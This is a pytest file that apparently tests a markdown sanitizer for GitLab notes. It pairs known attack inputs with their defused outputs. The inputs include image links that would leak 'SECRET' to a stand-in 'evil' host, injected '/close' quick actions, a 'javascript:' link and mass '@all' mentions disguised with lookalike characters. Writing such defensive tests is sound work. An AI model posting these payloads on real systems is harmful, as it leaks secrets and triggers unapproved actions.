"""The one form in which each construct is posted, and each known attack in its harmless form."""

import pytest

from hummingbird.core.masking import Secrets
from hummingbird.gitlab.write.note_sanitizer import sanitize_markdown
from tests.gitlab.write.hostile import MARKER
from tests.gitlab.write.note_judge import effects

pytestmark = pytest.mark.every_case

J = "\u2060"


@pytest.mark.parametrize(
    ("markdown", "posted"),
    [
        (
            "Logs\n: the job\n   ```yaml\n/close\n   ```",
            "**Logs**\n\n- the job\n\n  ```yaml\n  ```\n\n&#47;close\n\n```\n```",
        ),
        ('x](<img src="//evil/p.png?d=SECRET">', f"x\\]{J}(image (`//evil/p.png?d=SECRET`)"),
        ("[[x|http:evil.example/SECRET.png]]", f"\\[{J}\\[x\\]\\]{J}"),
        ("`a ![p](//evil/p.png)\n: x`", "**\\`a p (`//evil/p.png`)**\n\n- x\\`"),
        ("<div>\n![p](//evil/p.png x)\n</div>", f"!\\[p\\]{J}(//evil/p.png x)"),
        ('a[^1]\n\n[^1]: <img src="//e">', "a<sup>1</sup>\n\n1. image (`//e`)"),
        ("\u017f@all \u212a@root", f"\u017f@{J}all \u212a@{J}root"),
        ("> [!note] @all\n> text", f"> **@{J}all**\n>\n> text"),
        ("https://e.x/#1[p](https://e.x/q)", f"https:{J}//e.x/#{J}1[p](https://e.x/q)"),
        ("\\[issue:1]", f"\\[{J}issue:1\\]"),
        ("ABC-123", f"ABC-{J}123"),
        ("WebGL-2", f"WebGL-{J}2"),
        ("group/project>", f"group/{J}project>"),
        ("see 3f786850e387550f.", "see `3f786850e387550f`."),
        ("see https://g.example/a/-/issues/1.", "see `https://g.example/a/-/issues/1`."),
    ],
)
def test_known_attack_is_harmless(markdown: str, posted: str) -> None:
    assert effects(markdown), "it would act if it were posted as it is"
    assert sanitize_markdown(markdown, Secrets(), MARKER) == posted
    assert effects(posted) == []


@pytest.mark.parametrize(
    ("markdown", "posted"),
    [
        ("/usr/bin/env\n/close", "&#47;usr/bin/env\n&#47;close"),
        ("```sh\n/usr/bin/env\nls\n```", "```sh\n    /usr/bin/env\n    ls\n```"),
        ("```\nx", "```\nx\n```"),
        ("```plantuml\nx\n```", "```text\nx\n```"),
        ("```json table\nx\n```", "```json\nx\n```"),
        ("![a](https://x.example/p.png)", "[a](https://x.example/p.png)"),
        ("[x](javascript:a)", "x (`javascript:a`)"),
        ("in <lambda> of List<String>", "in &lt;lambda> of List&lt;String>"),
        ("a <!-- b --> c", "a  c"),
        ("<details>\n\nx", "<details>\n<summary>Details</summary>\n\nx\n\n</details>"),
        ("x </details> y", "x &lt;/details> y"),
        (">>>\nx\n>>>", "> x"),
        ("---\na: b\n---", "***\n\n## a: b"),
        ("a\u202eb\u200bc\x00d\ufeff", "abcd"),
        ("math $a_b$", f"math \\$a_b\\${J}"),
        ("1986\\. A year\n\\+ b", "1986\\. A year\n\\+ b"),
        ("a<br>b", "a\\\nb"),
        ("www.example.com/x", f"[www{J}.example.com/x](http://www.example.com/x)"),
        ("Mail ada@example.com", "Mail ada@example.com"),
        ("a_@root _AB-1", f"a\\_@{J}root \\_AB-{J}1"),
        ("<div>&#" + "0" * 5000 + "65;</div>", "A"),
        ("- [ ] a\n- [x] b", "- [ ] a\n- [x] b"),
        ("| a | `x \\| y` |\n|---|---|\n| /z | @b |", f"| a | `x \\| y` |\n| --- | --- |\n| /z | @{J}b |"),
    ],
)
def test_construct_has_one_form(markdown: str, posted: str) -> None:
    assert sanitize_markdown(markdown, Secrets(), MARKER) == posted
